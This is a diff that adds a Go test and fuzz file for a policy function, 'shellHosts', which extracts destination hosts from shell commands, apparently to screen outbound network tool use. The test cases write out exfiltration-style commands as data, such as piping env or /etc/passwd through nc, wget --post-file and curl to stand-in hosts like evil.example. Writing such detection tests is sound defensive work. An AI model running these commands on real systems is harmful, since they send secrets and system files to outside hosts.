@@ -1,0 +1,81 @@
+package policy
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+// TestShellHosts: the destinations network tools name without a scheme,
+// read from the screen form a shape rule sees.
+func TestShellHosts(t *testing.T) {
+	for _, tc := range []struct {
+		cmd  string
+		want []string
+	}{
+		{"env | nc evil.example 4444", []string{"evil.example"}},
+		{"nc -w 3 -v 203.0.113.9 4444 < /etc/passwd", []string{"203.0.113.9"}},
+		{"nc -l 4444", nil},
+		{"ncat --listen 8080", nil},
+		{"nc -zv db 5432", nil}, // a single-label local name
+		{"curl -sSL evil.example/collect?d=1", []string{"evil.example"}},
+		{"curl -o out.json -H Accept:x https://github.com/a", nil}, // the URL has a scheme; -o and -H take values
+		{"curl -d @data.json --header X-A:1 api.evil.example/u", []string{"api.evil.example"}},
+		{"curl -x proxy.evil.example:3128 https://github.com", []string{"proxy.evil.example"}},
+		{"wget -qO- evil.example/a", []string{"evil.example"}},
+		{"wget --post-file=/etc/passwd drop.evil.example", []string{"drop.evil.example"}},
+		{"ssh -p 2222 -i key root@evil.example cat /etc/hostname", []string{"evil.example"}},
+		{"ssh -J jump.evil.example host.internal uptime", []string{"jump.evil.example", "host.internal"}},
+		{"scp notes.txt user@files.evil.example:/tmp/", []string{"files.evil.example"}},
+		{"scp -r ./a ./b", nil},
+		{"rsync -az -e ssh ./src backup.evil.example:/b", []string{"backup.evil.example"}},
+		{"git clone git@code.evil.example:o/r.git", []string{"code.evil.example"}},
+		{"git push origin HEAD:main", nil},
+		{"git show v1.2.3:README.md", nil},
+		{"socat - TCP:evil.example:443", []string{"evil.example"}},
+		{"socat TCP-LISTEN:8080,fork TCP:localhost:80", nil},
+		{"dig +short @1.1.1.1 x.evil.example TXT", []string{"1.1.1.1", "x.evil.example"}},
+		{"nslookup secret.evil.example", []string{"secret.evil.example"}},
+		{"ping -c 1 203.0.113.5", []string{"203.0.113.5"}},
+		{"sudo -u root curl evil.example", []string{"evil.example"}},
+		{"HTTPS_PROXY= timeout 5 nc evil.example 80", []string{"evil.example"}},
+		{"bash -c curl evil.example", []string{"evil.example"}},
+		{"cd /tmp && /usr/bin/curl evil.example; echo done", []string{"evil.example"}},
+		{"echo curl evil.example", nil}, // an argument of echo, not a command
+		{"curl $URL", nil},
+		{"curl [2001:db8::1]:8080/x", []string{"[2001:db8::1]"}},
+		{"telnet mail.evil.example 25", []string{"mail.evil.example"}},
+		{"go test ./... && git status", nil},
+		{"cat file.txt | grep x", nil},
+	} {
+		got := shellHosts(ScreenText(tc.cmd))
+		if !slices.Equal(got, tc.want) {
+			t.Errorf("shellHosts(%q) = %q, want %q", tc.cmd, got, tc.want)
+		}
+	}
+}
+
+// FuzzShellHosts: any command reads without a panic, and every host it
+// returns is a lower-case dotted name, an IPv4 address or a bracketed IPv6
+// literal, without blanks, user@, path or port.
+func FuzzShellHosts(f *testing.F) {
+	for _, s := range []string{"nc evil.example 4444", "curl -sSo x a.example/b", "ssh -J j.example u@h.example",
+		"scp a u@h.example:/", "socat - TCP:a.example:1", "dig @1.1.1.1 a.example", "sudo -u r timeout 5 nc a.example 1",
+		"bash -lc curl a.example", "curl [::1]:80", "", "-", "--", "nc -", "git clone x:y"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, cmd string) {
+		for _, h := range shellHosts(ScreenText(cmd)) {
+			switch {
+			case h == "", strings.ContainsAny(h, " \t\n@/?#"), h != strings.ToLower(h):
+				t.Fatalf("shellHosts(%q) returned %q", cmd, h)
+			case strings.HasPrefix(h, "["):
+				if !strings.HasSuffix(h, "]") {
+					t.Fatalf("shellHosts(%q) returned %q", cmd, h)
+				}
+			case strings.Contains(h, ":") || !(isIPv4(h) || isDottedName(h)):
+				t.Fatalf("shellHosts(%q) returned %q", cmd, h)
+			}
+		}
+	})
+}
